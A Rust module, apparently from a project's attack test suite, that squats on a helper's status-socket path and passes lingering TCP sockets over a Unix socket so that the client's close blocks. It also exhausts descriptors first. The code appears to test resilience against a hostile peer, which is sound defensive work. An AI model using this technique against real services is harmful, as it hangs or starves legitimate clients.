//! A node that answers status requests with TCP sockets whose `close` blocks: `status`, with its
//! folder in the place of the helper's socket. To each client it sends some bytes with the sockets,
//! closes its own descriptors, and leaves the connection open. It prints `did` with the result:
//! `sent`, or the error.

use std::convert::Infallible;
use std::fs::{self, Permissions};
use std::io::{self, IoSlice};
use std::os::fd::{AsRawFd, OwnedFd, RawFd};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{UnixListener, UnixStream};
use std::sync::Arc;
use std::sync::mpsc::channel;

use nix::libc;
use nix::sys::socket::{ControlMessage, MsgFlags, sendmsg, setsockopt, sockopt};
use nlx_tests::attack::linger::Sink;
use nlx_tests::attack::use_all_descriptors;

use crate::{Target, say};

/// Sockets of one message.
const SOCKETS: usize = 10;

/// Messages of an answer. If the reader closes the sockets of one message first, the attacker's
/// close is the last, and blocks. So a separate thread sends each message, and the reader's close
/// is the last for others.
const MESSAGES: usize = 8;

pub(crate) fn attack(target: &Target, _: &[&str]) -> Result<Infallible, String> {
    answer(target).map_err(|error| error.to_string())
}

fn answer(target: &Target) -> io::Result<Infallible> {
    use_all_descriptors()?;
    let folder = &target.socket;
    fs::create_dir(folder)?;
    fs::set_permissions(folder, Permissions::from_mode(0o700))?;
    let listener = UnixListener::bind(folder.join(format!("{}-1-1.sock", std::process::id())))?;
    let (mut sink, mut held) = (Sink::default(), Vec::new());
    say(&format!("full {}", std::process::id()));
    loop {
        let stream = Arc::new(listener.accept()?.0);
        held.push(stream.clone());
        let (outcome, outcomes) = channel();
        for _ in 0..MESSAGES {
            let sockets = (0..SOCKETS).map(|_| sink.lingering()).collect::<Result<Vec<_>, _>>()?;
            let (stream, outcome) = (stream.clone(), outcome.clone());
            std::thread::spawn(move || {
                let sent = send(&stream, &sockets);
                // Only the first result is read.
                let _ = outcome.send(sent);
                if sent.is_err() {
                    // This process's close is the last.
                    let at_once = libc::linger { l_onoff: 1, l_linger: 0 };
                    for socket in &sockets {
                        let _ = setsockopt(socket, sockopt::Linger, &at_once);
                    }
                }
            });
        }
        let first = outcomes.recv().map_err(io::Error::other)?;
        say(&first.map_or_else(|errno| format!("did {errno:?}"), |()| "did sent".to_string()));
    }
}

fn send(stream: &UnixStream, sockets: &[OwnedFd]) -> nix::Result<()> {
    let rights: Vec<RawFd> = sockets.iter().map(AsRawFd::as_raw_fd).collect();
    let control = [ControlMessage::ScmRights(&rights)];
    sendmsg::<()>(stream.as_raw_fd(), &[IoSlice::new(b"{")], &control, MsgFlags::empty(), None).map(drop)
}
